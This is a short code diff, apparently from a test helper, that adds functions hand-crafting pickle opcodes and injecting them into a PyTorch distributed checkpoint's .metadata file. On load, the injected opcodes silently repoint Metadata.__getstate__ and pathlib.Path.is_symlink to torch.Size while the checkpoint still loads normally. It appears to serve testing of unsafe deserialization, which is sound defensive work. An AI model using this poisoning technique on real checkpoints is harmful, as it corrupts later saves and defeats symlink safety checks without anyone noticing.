@@ -160,3 +160,26 @@ def snapshot(directory: Path) -> dict[str, str]:
             else:
                 found[relative] = "dir"
     return found
+
+
+def set_attribute_of_class(module: str, name: str, attribute: str, value: tuple[str, str]) -> bytes:
+    """Pickle opcodes (protocol 2, no memo) that set `<module>.<name>.<attribute> = <value's global>` with BUILD and
+    pop the class again: what a hand-made pickle can do to any class its unpickler hands out."""
+    build = b"c%s\n%s\nN}X%s%sc%s\n%s\ns\x86b0" % (
+        module.encode(), name.encode(), len(attribute).to_bytes(4, "little"), attribute.encode(),
+        value[0].encode(), value[1].encode(),
+    )  # fmt: skip
+    return build
+
+
+def poison_dcp_metadata_classes(checkpoint: Path) -> None:
+    """DCP's `.metadata` made to first set `Metadata.__getstate__ = torch.Size` (every later DCP save of the process
+    pickles an empty Metadata) and `pathlib.Path.is_symlink = torch.Size` (every later symlink check answers no), then
+    hold the untouched original: training would go on normally."""
+    real = pickle.dumps(pickle.loads((checkpoint / ".metadata").read_bytes()), protocol=2)
+    assert real.startswith(b"\x80\x02") and real.endswith(b".")
+    attacks = set_attribute_of_class("torch.distributed.checkpoint.metadata", "Metadata", "__getstate__",
+                                     ("torch", "Size"))  # fmt: skip
+    attacks += set_attribute_of_class("pathlib", "Path", "is_symlink", ("torch", "Size"))
+    (checkpoint / ".metadata").write_bytes(real[:2] + attacks + real[2:])
+    rewrite_manifest(checkpoint)
